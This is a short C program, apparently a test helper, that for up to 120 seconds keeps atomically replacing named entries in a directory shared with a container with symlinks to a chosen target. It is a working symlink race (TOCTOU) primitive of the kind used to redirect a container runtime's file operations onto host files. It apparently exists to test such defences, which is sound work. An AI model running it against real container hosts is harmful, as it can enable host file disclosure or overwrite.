/* A neighbour sharing a directory with a container: it keeps replacing the
 * given names in DIR with symlinks to TARGET, atomically (rename over them),
 * every INTERVAL_US microseconds (0: as fast as it can), for at most 120 s.
 * usage: racer DIR TARGET INTERVAL_US NAME... */
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  long interval = atol(argv[3]);
  char tmp[4096], path[4096];
  time_t end = time(NULL) + 120;
  while (time(NULL) < end) {
    for (int k = 4; k < argc; k++) {
      snprintf(path, sizeof path, "%s/%s", argv[1], argv[k]);
      snprintf(tmp, sizeof tmp, "%s/.%s.swap", argv[1], argv[k]);
      (void)!symlink(argv[2], tmp);
      (void)!rename(tmp, path);
    }
    if (interval > 0) usleep((useconds_t)interval);
  }
  return 0;
}
